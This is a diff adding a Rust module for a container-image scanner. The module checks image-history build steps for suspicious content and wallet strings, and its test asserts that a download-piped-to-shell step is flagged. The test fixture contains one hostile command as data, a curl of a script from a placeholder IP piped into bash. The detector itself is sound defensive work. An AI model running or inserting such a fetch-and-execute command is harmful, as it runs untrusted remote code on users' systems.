@@ -1,0 +1,95 @@
+//! History analyzer: each `created_by` of the image history is checked with the same
+//! automaton, confirmations and wallet check as scripts (`curl | sh` in a `RUN` step).
+//! Metadata-only steps (`ENV`, `CMD`, `ENTRYPOINT`, `EXPOSE` with no layer) are left to the
+//! config analyzer, which sees their final values, so one fact is not reported twice.
+
+use super::{content, wallet, Analyzer, FsLookup, Signal, Subject};
+use crate::image::Image;
+use crate::signatures::Signatures;
+use std::sync::Arc;
+
+pub struct HistoryAnalyzer {
+    sigs: Arc<Signatures>,
+}
+
+impl HistoryAnalyzer {
+    pub fn new(sigs: Arc<Signatures>) -> Self {
+        HistoryAnalyzer { sigs }
+    }
+}
+
+fn metadata_step(created_by: &str) -> bool {
+    let s = created_by
+        .trim_start_matches("/bin/sh -c #(nop)")
+        .trim_start();
+    ["ENV ", "CMD ", "ENTRYPOINT ", "EXPOSE "]
+        .iter()
+        .any(|p| s.starts_with(p))
+}
+
+impl Analyzer for HistoryAnalyzer {
+    fn name(&self) -> &'static str {
+        "history"
+    }
+    fn image(&self, image: &Image, _fs: &dyn FsLookup, out: &mut Vec<Signal>) {
+        for (step, h) in image.config.history.iter().enumerate() {
+            if h.created_by.is_empty() || (h.empty_layer && metadata_step(&h.created_by)) {
+                continue;
+            }
+            let subject = Subject::History { step };
+            out.extend(content::scan_text(&self.sigs, &h.created_by, &subject));
+            out.extend(wallet::scan_text(&h.created_by, &subject));
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::image::{HistoryEntry, ImageConfig, Platform};
+
+    pub(crate) fn image_with(config: ImageConfig) -> Image {
+        Image {
+            reference: "test".into(),
+            manifest_digest: "sha256:m".into(),
+            config_digest: "sha256:c".into(),
+            platform: Platform::default(),
+            config,
+            layers: vec![],
+            notes: vec![],
+        }
+    }
+
+    #[test]
+    fn curl_pipe_sh_in_run_step() {
+        let cfg = ImageConfig {
+            history: vec![
+                HistoryEntry {
+                    created_by: "/bin/sh -c #(nop) ADD file:abc in / ".into(),
+                    ..Default::default()
+                },
+                HistoryEntry {
+                    created_by:
+                        "RUN /bin/sh -c curl -fsSL http://198.51.100.7/x.sh | bash # buildkit"
+                            .into(),
+                    ..Default::default()
+                },
+                HistoryEntry {
+                    created_by: "RUN /bin/sh -c apt-get update && apt-get install -y curl".into(),
+                    ..Default::default()
+                },
+            ],
+            ..Default::default()
+        };
+        let a = HistoryAnalyzer::new(Arc::new(Signatures::embedded().unwrap()));
+        let mut out = Vec::new();
+        a.image(
+            &image_with(cfg),
+            &std::collections::HashMap::new(),
+            &mut out,
+        );
+        assert_eq!(out.len(), 1, "{out:?}");
+        assert_eq!(out[0].subject, Subject::History { step: 1 });
+        assert_eq!(out[0].signature, "download-pipe-shell");
+    }
+}
